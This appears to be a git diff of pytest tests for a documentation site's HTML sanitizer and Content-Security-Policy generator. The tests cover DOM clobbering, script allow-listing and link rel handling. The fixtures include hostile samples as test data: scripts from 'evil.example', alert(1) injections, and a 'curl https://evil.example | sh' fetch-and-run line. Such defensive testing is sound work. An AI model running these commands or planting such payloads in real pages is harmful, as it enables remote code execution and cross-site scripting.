@@ -98,7 +98,11 @@ def test_the_sanitizer_changes_nothing_the_site_s_own_extensions_generate():
                                  extension_configs=config.mdx_configs).convert(EVERY_EXTENSION)
     assert {"input", "label", "svg", "abbr", "details", "kbd", "sup", "table"} <= {
         item[0] for item in _Structure(rendered).items if isinstance(item, tuple)}
-    assert _Structure(sanitize.page_html(rendered)).items == _Structure(rendered).items
+    cleaned = _Structure(sanitize.page_html(rendered)).items
+    links = [item for item in cleaned if isinstance(item, tuple) and item[0] == "a"]
+    assert links and all(("rel", "noopener noreferrer") in attributes for _, attributes in links)
+    assert [(item[0], [a for a in item[1] if a != ("rel", "noopener noreferrer")]) if isinstance(item, tuple) else item
+            for item in cleaned] == _Structure(rendered).items
 
 
 def test_the_sanitizer_keeps_the_hooks_markers():
@@ -148,10 +152,42 @@ def test_the_policy_allows_exactly_the_theme_s_own_inline_scripts():
         assert directive in policy
 
 
+THEME = csp.Theme(overrides=ROOT / "overrides", dirs=(str(ROOT / "overrides"), str(csp.THEME_SCRIPTS.parents[1])),
+                  site_path="/jax-kb/")
+BUNDLE = next(csp.THEME_SCRIPTS.parents[1].glob("assets/javascripts/bundle.*.min.js")).name
+WORKER = next(csp.THEME_SCRIPTS.parents[1].glob("assets/javascripts/workers/search.*.min.js")).name
+SCRIPT_FILES = f"""<html><head></head><body>
+<script src="../../assets/javascripts/{BUNDLE}"></script><script src="../../assets/javascripts/kb.js"></script>
+<script src="../../assets/evil.js"></script><script src="https://evil.example/x.js"></script>
+<script src="../../../../assets/javascripts/kb.js"></script><script src="../../assets/javascripts/../../x/kb.js"></script>
+<script id="__config" type="application/json">{{"base": "../..", "search": "../../assets/javascripts/workers/{WORKER}"}}
+</script></body></html>"""
+
+
 def test_the_policy_is_the_first_thing_in_head():
-    page = csp.with_policy(PAGE)
+    page = csp.with_policy(PAGE, "/jax-kb/glossary/vmap/", THEME)
     assert page.startswith('<!doctype html><html><head>\n    <meta http-equiv="Content-Security-Policy" content="'
                            "default-src 'self'; script-src 'self' ")
+    assert page.count('http-equiv="Content-Security-Policy"') == 2
+
+
+def test_the_second_policy_allows_the_theme_s_script_files_by_exact_path_and_nothing_else():
+    """What the page loads from the theme (Material's bundle and search worker, the project's kb.js) runs;
+    a file beside them, on another host or outside the site's path does not."""
+    policy = csp.script_policy(SCRIPT_FILES, "/jax-kb/glossary/vmap/", THEME)
+    assert policy == ("script-src *:*/jax-kb/assets/javascripts/" + BUNDLE + " *:*/jax-kb/assets/javascripts/kb.js "
+                      "*:*/jax-kb/assets/javascripts/workers/" + WORKER)
+
+
+def test_the_second_policy_names_the_theme_s_files_from_a_language_s_pages_and_the_404_page():
+    page = SCRIPT_FILES.replace("../../", "/jax-kb/")
+    assert csp.script_policy(page, "/jax-kb/ru/404.html", THEME) == csp.script_policy(
+        SCRIPT_FILES.replace("../../", "../../../"), "/jax-kb/ru/glossary/vmap/", THEME)
+
+
+def test_the_second_policy_allows_no_script_at_all_on_a_page_without_the_theme_s():
+    assert csp.script_policy("<html><head></head><body><script>alert(1)</script></body></html>", "/jax-kb/",
+                             THEME) == "script-src 'none'"
 
 
 def test_title_attributes_hold_html_text_for_materials_tooltips():
@@ -166,3 +202,41 @@ def test_a_template_script_matches_what_its_expressions_rendered_and_nothing_els
     assert pattern.fullmatch('\n  go(["es", "ru"], "/x");\n')
     assert not pattern.fullmatch('\n  go("/", "../.."+alert(1)+"/x");\n')
     assert not pattern.fullmatch('\n  go("</script><script>alert(1)", "/x");\n')
+
+
+CLOBBERING = {
+    "config": '<div id="__config">{"search": "evil.js"}</div>',
+    "code copy target": '<pre id="__code_0"><code>curl https://evil.example | sh</code></pre>',
+    "drawer toggle": '<input type="checkbox" id="__drawer">',
+    "palette name": '<input type="radio" name="__palette">',
+    "tab id of another shape": '<input type="radio" id="__tabbed_x">',
+    "line anchor on another tag": '<div id="__codelineno-0-1">x</div>',
+    "spaced": '<p id=" __search ">x</p>',
+    "site id": '<h2 id="related">Related</h2>',
+    "site letter id": '<h2 id="letter-a">A</h2>',
+}
+
+
+@pytest.mark.parametrize("payload", CLOBBERING.values(), ids=CLOBBERING.keys())
+def test_the_page_s_own_html_keeps_no_id_or_name_of_the_theme_or_the_site(payload):
+    cleaned = sanitize.page_html(f"{payload}\n<!-- generated sections -->\n")
+    assert not [a for a in _Structure(cleaned).items if isinstance(a, tuple) for name, _ in a[1] if name in ("id", "name")]
+
+
+def test_the_generated_sections_keep_the_site_s_ids_but_not_the_theme_s():
+    html = ('<h2 id="related">r</h2>\n<!-- generated sections -->\n<h2 id="related">Related</h2>'
+            '<h2 id="letter-a">A</h2><div id="__config">x</div>')
+    assert sanitize.page_html(html) == ('<h2>r</h2>\n<!-- generated sections -->\n<h2 id="related">Related</h2>'
+                                        '<h2 id="letter-a">A</h2><div>x</div>')
+
+
+def test_a_marker_the_page_writes_itself_does_not_make_its_html_generated():
+    html = '<!-- generated sections --><h2 id="related">mine</h2>\n<!-- generated sections -->\n<p>x</p>'
+    assert 'id="related"' not in sanitize.page_html(html)
+
+
+def test_every_link_gets_noopener_noreferrer_and_rel_opener_does_not_survive():
+    cleaned = sanitize.page_html('<a href="https://example.com/" target="_blank" rel="opener">x</a>'
+                                 '<a href="../page/" target="_blank" rel="opener nofollow">y</a>')
+    assert cleaned == ('<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>'
+                       '<a href="../page/" target="_blank" rel="noopener noreferrer">y</a>')
